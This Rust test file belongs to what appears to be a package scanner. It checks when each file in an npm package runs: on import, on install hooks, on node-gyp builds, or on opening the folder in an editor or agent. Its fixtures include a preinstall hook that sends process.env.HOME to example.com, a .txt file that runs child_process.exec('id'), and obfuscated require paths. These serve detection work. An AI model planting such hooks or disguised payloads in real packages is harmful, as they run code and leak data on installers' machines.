//! What runs when, in small packages; and the ways in which a payload hides where nobody looks.

use super::*;
use crate::facts::Facts;
use crate::language;

fn package(files: &[(&str, &str)]) -> Package {
    let files = files.iter().map(|(path, text)| {
        let kind = language::kind(path, text.as_bytes());
        let facts: Facts = language::facts(kind, path, text.as_bytes());
        File {
            path: (*path).into(),
            bytes: text.as_bytes().to_vec().into(),
            kind,
            when: When::Called,
            facts: facts.into(),
            is_read: true,
            alone: None,
        }
    });
    let mut package = Package { ecosystem: "npm".into(), files: files.collect(), ..Package::default() };
    package.files.sort_by(|a, b| a.path.cmp(&b.path));
    language::manifests(&mut package);
    package
}

fn when(package: &Package, path: &str) -> When {
    package.file(path).unwrap_or_else(|| panic!("no {path}")).when
}

#[test]
fn a_payload_in_a_folder_of_tests_runs_when_the_main_file_requires_it() {
    for load in [
        "require('./test/fixtures/x')",
        "require('./te' + 'st/fixtures/x.js')",
        "require(require('path').join(__dirname, 'test', 'fixtures', 'x.js'))",
        "import('./test/fixtures/x.js')",
        "require(`./test/fixtures/${process.platform}`)",
        "require('child_process').fork(__dirname + '/test/fixtures/x.js')",
        "new Worker(new URL('./test/fixtures/x.js', import.meta.url))",
        "require('child_process').spawn('node', ['test/fixtures/x.js'])",
    ] {
        let package = package(&[
            ("package.json", r#"{"name": "demo", "main": "./lib"}"#),
            ("lib/index.js", "require('..')"),
            ("index.js", load),
            ("test/fixtures/x.js", "module.exports = 1"),
            ("test/other.js", "module.exports = 1"),
        ]);
        assert_eq!(when(&package, "lib/index.js"), When::Imported, "{load}");
        // The folder above has no main file but index.js.
        assert!(when(&package, "index.js") >= When::Called);
        assert!(when(&package, "test/fixtures/x.js") >= When::Called, "{load}");
        assert_eq!(when(&package, "test/other.js"), When::Never, "{load}");
    }
}

#[test]
fn hooks_reach_what_their_files_require() {
    let package = package(&[
        (
            "package.json",
            r#"{"name": "demo", "scripts": {"postinstall": "node scripts/setup && echo done"}}"#,
        ),
        ("scripts/setup.js", "require('../dist/payload.txt')"),
        ("dist/payload.txt", "require('child_process').exec('id')"),
        ("index.js", "module.exports = require('demo/lib/a')"),
        ("lib/a.js", ""),
        ("lib/b.js", ""),
    ]);
    assert_eq!(when(&package, "scripts/setup.js"), When::Installed);
    assert_eq!(when(&package, "dist/payload.txt"), When::Installed);
    let payload = package.file("dist/payload.txt").unwrap();
    assert!(payload.kind == Kind::JavaScript && !payload.facts.uses.is_empty(), "what is required is code");
    assert_eq!(when(&package, "lib/a.js"), When::Imported);
    assert_eq!(when(&package, "lib/b.js"), When::Called);
}

#[test]
fn code_in_a_hook_is_code() {
    let package = package(&[
        (
            "package.json",
            r#"{"scripts": {"preinstall": "node -e \"require('./x'); fetch('https://example.com/' + process.env.HOME)\""}}"#,
        ),
        ("x.js", ""),
    ]);
    let code = package.file("package.json!/preinstall").unwrap();
    assert!(code.when == When::Installed && !code.facts.flows.is_empty());
    assert_eq!(when(&package, "x.js"), When::Installed);
}

#[test]
fn compiling_a_binding_runs_its_commands() {
    let package = package(&[
        ("package.json", "{}"),
        ("binding.gyp", r#"{"targets": [{"target_name": "a", "sources": ["<!(node ./gen.js)"]}]}"#),
        ("gen.js", ""),
    ]);
    assert_eq!(when(&package, "gen.js"), When::Installed);
    assert!(package.manifest.hooks.iter().any(|hook| hook.command == "node-gyp rebuild"));
}

#[test]
fn what_editors_and_agents_run_is_known() {
    let package = package(&[
        ("package.json", "{}"),
        (
            ".vscode/tasks.json",
            "{\n// comment\n\"tasks\": [{\"command\": \"node\", \"args\": [\".vscode/a.js\"], \"runOptions\": {\"runOn\": \"folderOpen\"}}, {\"command\": \"node b.js\"}]}",
        ),
        (
            ".claude/settings.json",
            r#"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node .claude/c.js"}]}]}}"#,
        ),
        (".vscode/a.js", ""),
        ("b.js", ""),
        (".claude/c.js", ""),
    ]);
    assert_eq!(when(&package, ".vscode/a.js"), When::Opened);
    assert_eq!(when(&package, ".claude/c.js"), When::Opened);
    assert_eq!(when(&package, "b.js"), When::Called);
}

#[test]
fn python_modules_are_found_from_the_file_that_imports_them() {
    let files = ["pkg/__init__.py", "pkg/tests/__init__.py", "pkg/tests/a.py", "pkg/b.py", "setup.py"];
    let files = Files { by_path: files.into_iter().zip(0..).collect(), name: "" };
    assert_eq!(python(&files, "pkg/__init__.py", ".b"), [3]);
    assert_eq!(python(&files, "setup.py", "pkg.b"), [3]);
    assert_eq!(python(&files, "pkg/b.py", ".tests"), [1, 1, 2]);
    assert_eq!(python(&files, "pkg/b.py", "..."), [] as [usize; 0]);
}
